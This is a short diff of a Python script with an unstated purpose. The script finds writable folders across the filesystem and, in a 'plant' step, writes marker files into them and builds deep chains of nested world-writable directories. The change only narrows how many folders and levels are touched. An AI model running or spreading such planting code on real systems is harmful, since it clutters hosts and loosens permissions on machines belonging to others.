@@ -10,18 +10,20 @@ def writable_folders():
                       if os.path.join(folder, name) not in ("/proc", "/sys") and name != MARK]
         if os.access(folder, os.W_OK):
             yield folder
+            if folder.count("/") > 3:
+                folders[:] = []
 
 
 KEY = 0x7061
 if STEP == "plant":
-    for folder in list(writable_folders()):
+    for folder in list(writable_folders())[:100]:
         try:
             with open(os.path.join(folder, MARK), "w") as file:
                 file.write(MARK)
             deep = os.path.join(folder, "." + MARK)
             os.mkdir(deep)
             os.chdir(deep)
-            for _ in range(200):
+            for _ in range(100):
                 os.mkdir(MARK)
                 os.chmod(".", 0o1777)
                 os.chdir(MARK)
